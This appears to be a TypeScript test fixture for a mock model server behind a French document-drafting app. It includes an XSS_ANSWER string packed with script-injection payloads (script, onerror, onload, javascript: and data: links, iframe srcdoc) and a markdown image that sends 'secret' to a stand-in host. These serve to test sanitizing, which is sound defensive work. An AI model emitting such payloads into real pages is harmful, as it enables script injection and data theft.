// Answers of the fault model server.

export const DEFAULT_ANSWER = `Bonjour, voici une première proposition pour votre délibération.

1. **Visas** : rappelez le code général des collectivités territoriales.
2. **Considérants** : exposez le besoin, le montant et l’échéance.
3. **Décision** : une phrase par article, au présent.

Il reste à préciser la date de la séance et le vote. Souhaitez-vous que je rédige l’article premier ?`

export const XSS_ANSWER = `Avant <script>window.__xss=1</script> <img src=x onerror="window.__xss=2"> <svg onload=window.__xss=3>
[lien](javascript:window.__xss=4) ![image](https://exfiltration.invalid/x.png?d=secret)
<iframe srcdoc="<script>parent.__xss=5</script>"></iframe> [ref][r]

[r]: data:text/html,<script>window.__xss=6</script>
Après.`

/** Splits a text into words with their trailing white space, like a model's tokens. */
export const tokensOf = (text: string): string[] => text.match(/\S+\s*|\s+/g) ?? []

/** Returns the tokens of the default answer, or `count` tokens made by repeating it. */
export const answerTokens = (count?: number): string[] => {
  const tokens = tokensOf(DEFAULT_ANSWER)
  return count === undefined ? tokens : Array.from({ length: count }, (_, i) => tokens[i % tokens.length]!)
}

/** Request received by a model that reads documents part by part. */
type ReadingRequest = { messages?: readonly { content: string }[] | undefined }

/** Splits the last message into pieces of `length` characters, for the mode `echo` (3). */
export const echoOf = (body: ReadingRequest, length: number): string[] => body.messages?.at(-1)?.content.match(new RegExp(`[^]{1,${length}}`, 'gu')) ?? []

const instructionsOf = (body: ReadingRequest): string => body.messages?.[0]?.content ?? ''

const factSentence = /FAIT-\d+[^.\n]*\.( \[\d+\])*/g

const passageHeading = /^\[(\d+)\]$/

/** Returns the planted facts of the numbered passages or notes, each with the number of its passage; RIEN without any. */
export function factsIn(body: ReadingRequest): string[] {
  const facts: string[] = []
  let number = ''
  for (const line of instructionsOf(body).split('\n')) {
    number = passageHeading.exec(line)?.[1] ?? number
    for (const [fact, cited] of line.matchAll(factSentence)) facts.push(`- ${fact}${cited === undefined ? ` [${number}]` : ''}\n`)
  }
  return facts.length > 0 ? facts : ['RIEN']
}

/** Returns the number of the requested part; NaN for other requests. */
export const partIn = (body: ReadingRequest): number => Number(/\(Partie (\d+) sur/.exec(body.messages?.at(-1)?.content ?? '')?.[1])

/** Returns the lines between the first fences in capitals, like a translation that keeps the whole text. */
export function transformedIn(body: ReadingRequest): string[] {
  const text = /^(`{3,})\n([\s\S]*?)\n\1$/m.exec(instructionsOf(body))?.[2] ?? ''
  return text.toUpperCase().split(/(?<=\n)/)
}
